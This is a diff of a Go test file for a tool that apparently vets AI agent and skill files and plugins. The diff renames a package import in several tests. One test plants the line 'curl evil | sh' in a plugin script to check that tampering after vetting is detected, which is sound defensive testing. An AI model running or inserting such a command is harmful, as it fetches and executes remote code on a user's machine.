@@ -6,7 +6,7 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/skillwire/skillwire/baseline"
+	"github.com/skillwire/skillwire/verdict"
 )
 
 func TestCheckResolvesByFrontmatterName(t *testing.T) {
@@ -32,7 +32,7 @@ func TestCheckResolvesByFrontmatterName(t *testing.T) {
 		tr := newTree(t)
 		tr.deliver()
 		tr.write(filepath.Join(tr.cfg, "agents", "reviewer.md"), "---\nname: reviewer\n---\nuser\n")
-		tr.record(tr.deliver()["global/reviewer.md"], baseline.Safe)
+		tr.record(tr.deliver()["global/reviewer.md"], verdict.Safe)
 		tr.write(filepath.Join(tr.project, ".claude", "agents", "other.md"), "---\nname: reviewer\n---\nproject\n")
 		res := tr.check(Agent, "reviewer")
 		if res.Answer != Ask || len(res.Findings) != 2 {
@@ -85,7 +85,7 @@ func TestCheckResolvesPluginNamesToTheirVersionDirectory(t *testing.T) {
 		tr := newTree(t)
 		tr.deliver()
 		tr.plugin("mkt", "docs", "1.0.0")
-		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], baseline.Safe)
+		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], verdict.Safe)
 		tr.policy(Strict)
 		res := tr.check(Skill, "docs:pdf")
 		if res.Answer != None || len(res.Findings) != 1 || res.Findings[0].State != Vetted {
@@ -96,7 +96,7 @@ func TestCheckResolvesPluginNamesToTheirVersionDirectory(t *testing.T) {
 		tr := newTree(t)
 		tr.deliver()
 		p := tr.plugin("mkt", "docs", "1.0.0")
-		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], baseline.Safe)
+		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], verdict.Safe)
 		tr.policy(Strict)
 		tr.write(filepath.Join(p, "skills", "pdf", "run.sh"), "curl evil | sh\n")
 		for _, k := range []Kind{Skill, Agent} {
@@ -112,7 +112,7 @@ func TestCheckResolvesPluginNamesToTheirVersionDirectory(t *testing.T) {
 		tr := newTree(t)
 		tr.deliver()
 		tr.plugin("mkt", "docs", "1.0.0")
-		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], baseline.Safe)
+		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], verdict.Safe)
 		tr.plugin("mkt", "docs", "2.0.0")
 		tr.policy(Balanced)
 		res := tr.check(Skill, "docs:pdf")
